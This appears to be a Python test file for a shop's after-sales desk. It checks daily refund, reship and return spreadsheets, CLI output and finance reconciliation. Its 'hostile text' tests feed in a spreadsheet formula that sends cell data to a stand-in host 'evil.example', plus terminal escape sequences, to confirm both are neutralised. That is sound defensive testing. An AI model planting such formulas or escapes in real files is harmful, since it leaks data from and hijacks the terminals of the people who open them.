"""The floor's tables from the issues: the right rows for the local day, DOMAIN.md's columns, exact money,
and XLSX files that open (openpyxl reads back the same values)."""

import io
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook

from app.store.engine import open_store

from app.desk.issues import IssueDesk
from app.desk.money import Money
from app.desk.reports import Reports, write_xlsx

from app import config, domain
from app.cli.main import main
from tests.conftest import as_excel_kept

NOW = datetime(2026, 11, 24, 3, 0, tzinfo=UTC)  # 11:00 in China
ORDER = domain.Order("3912345678901234567", "b1", (domain.OrderItem("S1", "小鹿运动鞋", 1, 12900),), 12900,
                     "交易成功", NOW - timedelta(days=3), "中通快递", "7312", "浙江省杭州市文三路88号")
DAY = NOW.astimezone().strftime("%Y-%m-%d")


@pytest.fixture
def store():
    s = open_store(config.store_path())
    s.upsert_orders([ORDER], NOW)
    yield s
    s.close()


def day_of_work(store) -> IssueDesk:
    clock = [NOW]
    desk = IssueDesk(store, "小李", clock=lambda: clock[0])
    issue = desk.open_issue(stage="after_sale", category="missing_item", order_no=ORDER.no, buyer_nick="tb_小美妈妈")
    desk.act(issue.id, "partial_refund", {"amount": "5.90", "reason": "少发袜子", "real_name": "王小美",
                                          "alipay": "xm@example.com"})
    desk.act(issue.id, "partial_refund", {"amount": "50", "reason": "等审批"})  # over the cap: not in the table
    desk.act(issue.id, "reship", {"items": "袜子×1", "reason": "少发", "courier": "中通快递", "new_tracking_no": "7399"})
    desk.act(issue.id, "return", {"shipping_paid_by": "buyer", "reason": "尺码小", "return_tracking_no": "SF1"})
    clock[0] = NOW + timedelta(days=1)  # tomorrow's refund is tomorrow's table
    desk.act(issue.id, "partial_refund", {"amount": "1", "reason": "明天的"})
    return desk


def test_the_refund_table_has_the_days_done_refunds_with_finances_columns(store):
    day_of_work(store)
    table = Reports(store).refunds(DAY)
    assert table.headers == ("旺旺名", "真名", "支付宝", "金额", "原因", "订单号", "时间")
    assert table.rows == [("tb_小美妈妈", "王小美", "xm@example.com", Money(590), "少发袜子", ORDER.no,
                           NOW.astimezone().strftime("%Y-%m-%d %H:%M:%S"))]


def test_reships_and_returns_carry_what_the_warehouse_needs(store):
    day_of_work(store)
    reports = Reports(store)
    assert reports.reships(DAY).rows == [(ORDER.no, "tb_小美妈妈", "浙江省杭州市文三路88号", "袜子×1", "少发", "中通快递", "7399")]
    assert reports.returns(DAY).rows == [(ORDER.no, "tb_小美妈妈", "小鹿运动鞋×1", "尺码小", "SF1", "买家", "否")]


def test_an_xlsx_opens_with_the_same_values_and_money_as_yuan(store, tmp_path):
    day_of_work(store)
    target = tmp_path / "out" / "退款.xlsx"
    write_xlsx(Reports(store).refunds(DAY), target)
    sheet = load_workbook(target).active
    assert sheet.title == "退款信息表"
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("旺旺名", "真名", "支付宝", "金额", "原因", "订单号", "时间")
    assert rows[1][3] == pytest.approx(5.90) and sheet.cell(2, 4).number_format == "0.00"
    assert rows[1][5] == ORDER.no  # an 19-digit order no. stays text, not 3.91E+18
    assert not list(target.parent.glob("*.part"))


def test_the_cli_prints_or_writes_the_table_and_refuses_a_bad_date(store, tmp_path, capsys):
    day_of_work(store)
    assert main(["report", "reships", "--date", DAY]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0].split("\t") == ["订单号", "买家", "地址", "商品", "原因", "快递公司", "新运单号"] and len(out) == 2
    assert main(["report", "refunds", "--date", DAY, "--out", str(tmp_path / "r.xlsx")]) == 0
    assert "退款信息表: 1 row(s) written" in capsys.readouterr().out
    assert main(["report", "refunds", "--date", "24/11/2026"]) == 2
    assert "not a date such as 2026-11-24" in capsys.readouterr().err
    assert main(["report", "refunds", "--out", str(tmp_path / "r.csv")]) == 2


def test_finances_result_sheet_marks_each_refund_matched_or_what_differs(store, tmp_path, capsys):
    from app.desk.reconcile import reconcile

    desk = day_of_work(store)
    other = desk.open_issue(stage="after_sale", category="damage", order_no=ORDER.no, buyer_nick="tb_小美妈妈")
    desk.clock = lambda: NOW
    desk.act(other.id, "partial_refund", {"amount": "3", "reason": "破损", "alipay": "xm@example.com"})
    sheet = ("订单号,金额,支付宝\n"
             f"{ORDER.no},5.90,xm@example.com\n"
             f"{ORDER.no},3.50,xm@example.com\n"
             "1999999999999999999,8.00,who@example.com\n").encode("gbk")
    marks = reconcile(store, sheet, "csv", DAY, who="财务")
    assert [(m.result, m.detail) for m in marks] == [
        ("matched", ""), ("mismatched", "amount ¥3.00 → ¥3.50"), ("not_in_desk", "¥8.00")]
    assert [e.what for e in desk.audit.audit_log() if e.what.startswith("refund reconciled")] == [
        "refund reconciled: matched", "refund reconciled: mismatched"]
    path = tmp_path / "result.csv"
    path.write_bytes(sheet)
    assert main(["report", "refunds", "--date", DAY, "--reconcile", str(path)]) == 1
    assert "1 matched, 2 to look at" in capsys.readouterr().out


# --- hostile text (issue 17): whatever a buyer typed or a file held, every table is made, and opens as text ------

C0 = "".join(chr(code) for code in range(0x20))
C0_TEXT = f"={C0}\x7f尾"  # every C0 control and DEL behind a formula's "=", 35 characters: fits every text field
WIDE_TEXT = "@" + "".join(chr(code) for code in range(0x80, 0xA0)) + "\u202e001\ufffe\uffff_x0041_尾"  # C1 and more
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我退款")'
HOSTILE_NO = "3912345678901234568"


def hostile_day(store, text: str) -> None:
    """A day on which text is in every field of every table a buyer, an agent or an imported file can fill: the
    order export's nick, receiver and address, the items, each action's words, the problem order's detail."""
    import csv
    import io

    from app.desk.order_import import plan_import, run_import

    # an import refuses a NUL and a phone over 40 characters (the team's server could not keep them); what the
    # desk's own forms take still carries every character
    cell = text.replace("\x00", "")
    sheet = io.StringIO(newline="")
    csv.writer(sheet).writerows([("订单编号", "买家会员名", "买家支付宝账号", "买家实际支付金额", "收货人姓名", "收货地址", "联系手机",
                                  "宝贝标题", "订单创建时间"),
                                 (HOSTILE_NO, cell, cell, "129.00", cell, cell, cell[:40], cell, "2026-11-20 10:11:00")])
    plan = plan_import(store, sheet.getvalue().encode("utf-8"), "csv", now=NOW)
    assert not plan.rejected, plan.rejected
    run_import(store, plan, now=NOW)
    desk = IssueDesk(store, text[:40], clock=lambda: NOW)
    after = desk.open_issue(stage="after_sale", category="damage", order_no=HOSTILE_NO, buyer_nick=text)
    desk.act(after.id, "partial_refund", {"amount": "1", "reason": text})
    short = text[:40]  # courier, tracking no. and packer take 40 characters
    desk.act(after.id, "reship", {"items": text, "reason": text, "courier": short, "new_tracking_no": short})
    desk.act(after.id, "return", {"shipping_paid_by": "shop", "reason": text, "return_tracking_no": short})
    desk.act(after.id, "complaint", {"problem": "damage", "detail": text, "photos": [text], "packer": short})
    review = desk.open_issue(stage="bad_review", category="bad_review", order_no=HOSTILE_NO, buyer_nick=text)
    desk.act(review.id, "contact", {"channel": "phone", "result": text})
    desk.act(review.id, "review_outcome", {"group": 2, "rating": 1, "review_text": text, "offer": text,
                                           "changed": False})
    desk.open_issue(stage="in_sale", category="unclear_address", order_no=HOSTILE_NO, buyer_nick=text, note=text)


def read_back(path) -> list[list[object]]:
    """The sheet's rows as Excel shows them (its _xHHHH_ escapes decoded), after checking no cell is a formula
    and every formula-like text carries Excel's quote prefix (editing the cell keeps it text)."""
    import re

    from app.safe_text import formula_like

    rows = []
    for row in load_workbook(path).active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            if isinstance(cell.value, str) and formula_like(cell.value):
                assert cell.quotePrefix, f"{cell.coordinate} {cell.value!r} has no quote prefix"
        rows.append([re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), c.value)
                     if isinstance(c.value, str) else c.value for c in row])
    return rows


@pytest.mark.parametrize("text", [C0_TEXT, WIDE_TEXT], ids=["C0 and DEL", "C1, bidi, non-characters"])
@pytest.mark.parametrize("kind", ["refunds", "reships", "returns", "complaints", "reviews", "problem-orders"])
def test_every_table_is_made_whatever_control_characters_it_holds_and_shows_them(store, tmp_path, kind, text):
    from app.safe_text import visible

    hostile_day(store, text)
    table = Reports(store).table(kind, DAY)
    target = tmp_path / f"{kind}.xlsx"
    write_xlsx(table, target)  # IllegalCharacterError here before: no table for the day at all
    [header, *rows] = read_back(target)
    assert tuple(header) == table.headers and len(rows) == len(table.rows) >= 1
    shown = visible(text)  # ␛ for ESC, \x9b for a C1 control; tab and line feed as they are
    cells = [c for row in rows for c in row if isinstance(c, str)]
    assert any(shown in c for c in cells), cells
    for cell in cells:
        assert not any(ord(c) < 0x20 and c not in "\t\n" or 0x7F <= ord(c) <= 0x9F for c in cell), cell
        assert not set(cell) & {"\u202e", "\ufffe", "\uffff"}
    expected = [[visible(c) if isinstance(c, str) else c for c in row] for row in table.rows]
    assert [[c if c is not None else "" for c in row] for row in rows] == [
        [float(c.yuan()) if isinstance(c, Money) else c for c in row] for row in expected]


def test_a_buyers_formula_is_text_in_the_table_and_reads_as_typed(store, tmp_path):
    hostile_day(store, FORMULA)
    target = tmp_path / "退款.xlsx"
    write_xlsx(Reports(store).refunds(DAY), target)
    sheet = load_workbook(target).active
    nick, real_name, amount = sheet["A2"], sheet["B2"], sheet["D2"]
    assert (nick.value, nick.data_type, nick.quotePrefix) == (FORMULA, "s", True)  # a live formula before
    assert real_name.value == FORMULA and real_name.data_type == "s"
    assert amount.data_type == "n" and amount.value == pytest.approx(1.0)  # money stays a number
    for kind in ("reships", "returns", "complaints", "reviews", "problem-orders"):
        write_xlsx(Reports(store).table(kind, DAY), target)
        read_back(target)


def test_lone_surrogates_cannot_reach_a_table_the_store_refuses_them(store):
    desk = IssueDesk(store, "小李", clock=lambda: NOW)
    with pytest.raises(UnicodeEncodeError):
        desk.open_issue(stage="after_sale", category="damage", buyer_nick="半个\ud800字")
    assert desk.issues() == []


def test_the_printed_table_cannot_run_a_formula_where_it_is_pasted_nor_drive_the_terminal(store, capsys):
    hostile_day(store, f"{FORMULA}\x1b]0;pwned\x07\x1b[2J")
    assert main(["report", "refunds", "--date", DAY]) == 0
    header, row = capsys.readouterr().out.splitlines()
    cells = row.split("\t")
    assert len(cells) == 7 and cells[0] == f"'{FORMULA}␛]0;pwned␇␛[2J"
    assert not any(ord(c) < 0x20 and c != "\t" for c in row)


def test_reconciling_shows_finances_words_without_letting_them_drive_the_terminal(store, tmp_path, capsys):
    from tests.conftest import obeyed_by_a_terminal

    day_of_work(store)
    path = tmp_path / "result.csv"
    path.write_bytes((f"订单号,金额,支付宝\n{ORDER.no},5.90,xm@example.com\n"
                      "1999999999999999999\x1b]0;x\x07,8.00,who@example.com\n").encode())
    main(["report", "refunds", "--date", DAY, "--reconcile", str(path)])
    out = capsys.readouterr().out
    assert not obeyed_by_a_terminal(out) and "␛]0;x␇" in out


def test_finances_workbook_with_amounts_its_formulas_made_matches_the_refunds(store):
    from openpyxl import Workbook

    from app.desk.reconcile import reconcile

    desk = day_of_work(store)
    other = desk.open_issue(stage="after_sale", category="damage", order_no=ORDER.no, buyer_nick="tb_小美妈妈")
    desk.clock = lambda: NOW
    desk.act(other.id, "partial_refund", {"amount": "2.97", "reason": "三双袜子各赔0.99"})
    book = Workbook()
    sheet = book.active
    sheet.append(["订单号", "金额"])
    sheet.append([ORDER.no, 5.9])
    sheet.append([ORDER.no, 2.97])
    data = io.BytesIO()
    book.save(data)
    # =0.99*3 in finance's sheet: Excel keeps the double it computed, 2.9699999999999998 (openpyxl would round it)
    marks = reconcile(store, as_excel_kept(data.getvalue(), {"2.97": "2.9699999999999998"}), "xlsx", DAY, who="财务")
    assert [(m.result, m.detail) for m in marks] == [("matched", ""), ("matched", "")]



def test_a_refund_approved_the_next_day_is_in_that_days_table_and_in_no_other(store):
    IssueDesk(store, "店长", clock=lambda: NOW).add_profile("店长", "supervisor", "secret-1")
    clock = [NOW]
    desk = IssueDesk(store, "小李", clock=lambda: clock[0])
    issue = desk.open_issue(stage="after_sale", category="damage", order_no=ORDER.no, buyer_nick="tb_小美妈妈")
    asked = desk.act(issue.id, "partial_refund", {"amount": "50", "reason": "鞋底开胶"})  # over the agent's cap
    assert asked.needs_approval and Reports(store).refunds(DAY).rows == []  # the day's table, sent to finance
    clock[0] = NOW + timedelta(days=1)  # approved the next morning: payable from then
    desk.approve(asked.action.id, "店长", "secret-1")
    tomorrow = clock[0].astimezone().strftime("%Y-%m-%d")
    [row] = Reports(store).refunds(tomorrow).rows  # it was in no table finance ever got
    assert row[3] == Money(5000) and row[6] == clock[0].astimezone().strftime("%Y-%m-%d %H:%M:%S")
    assert Reports(store).refunds(DAY).rows == []  # the day's table made again does not pay it twice


def test_finances_sheet_in_its_own_order_still_matches_each_refund_of_an_order(store):
    from app.desk.reconcile import reconcile

    desk = day_of_work(store)  # ¥5.90 on the order
    other = desk.open_issue(stage="after_sale", category="damage", order_no=ORDER.no, buyer_nick="tb_小美妈妈")
    desk.clock = lambda: NOW
    desk.act(other.id, "partial_refund", {"amount": "3", "reason": "破损"})
    sheet = f"订单号,金额\n{ORDER.no},3.00\n{ORDER.no},5.90\n".encode()  # sorted by amount, not by time
    marks = reconcile(store, sheet, "csv", DAY, who="财务")
    assert [(m.result, m.detail) for m in marks] == [("matched", ""), ("matched", "")]  # ¥5.90 → ¥3.00 and back
